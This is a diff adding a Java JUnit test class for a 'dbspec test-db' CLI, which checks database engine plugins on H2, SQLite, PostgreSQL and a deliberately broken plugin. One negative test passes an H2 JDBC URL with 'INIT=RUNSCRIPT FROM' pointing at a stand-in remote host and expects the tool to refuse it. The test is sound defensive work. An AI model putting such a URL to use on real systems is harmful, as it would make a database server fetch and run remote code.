@@ -1,0 +1,130 @@
+package dev.dbspec.host;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import dev.dbspec.host.cli.DbspecCommand;
+import dev.dbspec.testdb.TestDatabase;
+import dev.dbspec.testdb.TestDatabases;
+import java.io.IOException;
+import java.io.PrintWriter;
+import java.io.StringWriter;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import picocli.CommandLine;
+
+/** {@code dbspec test-db} on live engines, on a deliberately broken spec, and on bad input. */
+class TestDbCommandTest {
+    @TempDir
+    static Path plugins;
+
+    @TempDir
+    static Path reports;
+
+    record Run(int exitCode, String out, String err) {
+    }
+
+    @BeforeAll
+    static void plugins() throws IOException {
+        TestPluginJars.copyBuiltPlugins(plugins);
+        // "brokenh2" speaks H2 (driver in drivers/) but claims a wrong day grain.
+        Path folder = Files.createDirectories(plugins.resolve("brokenh2"));
+        TestPluginJars.plugin("brokenh2")
+                .source("dev.test.broken.Spec", """
+                        package dev.test.broken;
+                        import dev.dbspec.api.*;
+                        import java.util.*;
+                        @org.pf4j.Extension
+                        public final class Spec implements EngineSpec {
+                            public String id() { return "brokenh2"; }
+                            public String displayName() { return "Broken H2"; }
+                            public List<String> urlPrefixes() { return List.of("jdbc:brokenh2:"); }
+                            public String urlTemplate() { return "jdbc:brokenh2:mem:{database}"; }
+                            public String driverUrl(String url) { return url.replace("jdbc:brokenh2:", "jdbc:h2:"); }
+                            public String driverClassName() { return "org.h2.Driver"; }
+                            public Map<TimeGrain, String> timeGrainExpressions() {
+                                return Map.of(TimeGrain.HOUR, "DATE_TRUNC('HOUR', {col})", TimeGrain.DAY, "DATE_TRUNC('MONTH', {col})");
+                            }
+                        }
+                        """)
+                .extension("dev.test.broken.Spec")
+                .writeTo(folder);
+        Path lib = Path.of(System.getProperty("dbspec.test.pluginsDir")).resolve("h2").resolve("lib");
+        Files.createDirectories(folder.resolve("drivers"));
+        try (Stream<Path> jars = Files.list(lib)) {
+            for (Path jar : jars.toList()) {
+                Files.copy(jar, folder.resolve("drivers").resolve(jar.getFileName()));
+            }
+        }
+    }
+
+    static Run run(String... args) {
+        CommandLine commandLine = DbspecCommand.commandLine();
+        StringWriter out = new StringWriter();
+        StringWriter err = new StringWriter();
+        commandLine.setOut(new PrintWriter(out));
+        commandLine.setErr(new PrintWriter(err));
+        List<String> all = new ArrayList<>(List.of("--plugins-dir", plugins.toString()));
+        all.addAll(List.of(args));
+        return new Run(commandLine.execute(all.toArray(String[]::new)), out.toString(), err.toString());
+    }
+
+    @Test
+    void h2PassesEveryClaimAndWritesReports() throws Exception {
+        Path json = reports.resolve("h2.json");
+        Path html = reports.resolve("h2.html");
+        Run run = run("test-db", "jdbc:h2:mem:testdb_h2", "--json", json.toString(), "--html", html.toString());
+        assertThat(run.exitCode()).as(run.out() + run.err()).isZero();
+        assertThat(run.out()).contains("Engine: H2 (h2), built-in plugin h2", "Superset-compatible score:", "[PASS]",
+                "time grain P1W/1970-01-04T00:00:00Z", "cancel a running statement", "Summary:", "-> PASSED");
+        JsonNode report = new ObjectMapper().readTree(json.toFile());
+        assertThat(report.get("engineId").asText()).isEqualTo("h2");
+        assertThat(report.get("failed").asInt()).isZero();
+        assertThat(report.get("scorecard").get("supersetMax").asInt()).isEqualTo(201);
+        List<String> ids = new ArrayList<>();
+        report.get("checks").forEach(check -> {
+            ids.add(check.get("id").asText());
+            assertThat(check.get("status").asText()).as(check.toString()).isIn("PASSED", "SKIPPED");
+        });
+        assertThat(ids).contains("connect", "select1", "grain.PT1S", "grain.P1Y", "literal.timestamp", "epoch",
+                "error.syntax", "error.missing_table", "types", "capability.joins", "metadata", "cancel");
+        String page = Files.readString(html);
+        assertThat(page).contains("<title>dbspec test-db: H2</title>", "201").doesNotContain("http://", "https://", "<script");
+    }
+
+    @Test
+    void sqliteAndLivePostgresqlPass(@TempDir Path dir) {
+        Run sqlite = run("test-db", "jdbc:sqlite:" + dir.resolve("t.db"));
+        assertThat(sqlite.exitCode()).as(sqlite.out()).isZero();
+        TestDatabase postgresql = TestDatabases.require("postgresql");
+        Run pg = run("test-db", postgresql.jdbcUrl(), "--user", postgresql.user().orElse("postgres"));
+        assertThat(pg.exitCode()).as(pg.out()).isZero();
+        assertThat(pg.out()).contains("PostgreSQL (postgresql)", "-> PASSED");
+    }
+
+    @Test
+    void aWrongGrainTemplateFailsWithTheGrainNamed() {
+        Run run = run("test-db", "jdbc:brokenh2:mem:broken");
+        assertThat(run.exitCode()).as(run.out()).isEqualTo(1);
+        assertThat(run.out()).contains("third-party plugin", "[FAIL]", "time grain P1D (Day)", "DATE_TRUNC('MONTH', {col})", "-> FAILED");
+        assertThat(run.out()).containsPattern("\\[PASS\\]\\s+time grain PT1H");
+    }
+
+    @Test
+    void unknownAndDangerousUrlsExitWithTwo() {
+        Run unknown = run("test-db", "jdbc:nosuchdb://h/x");
+        assertThat(unknown.exitCode()).isEqualTo(2);
+        assertThat(unknown.err()).contains("no engine serves URL", "jdbc:h2:");
+        assertThat(unknown.out()).doesNotContain("Superset-compatible score");
+        Run dangerous = run("test-db", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://example.invalid/x.sql'");
+        assertThat(dangerous.exitCode()).isEqualTo(2);
+        assertThat(dangerous.err()).contains("INIT", "refused");
+    }
+}
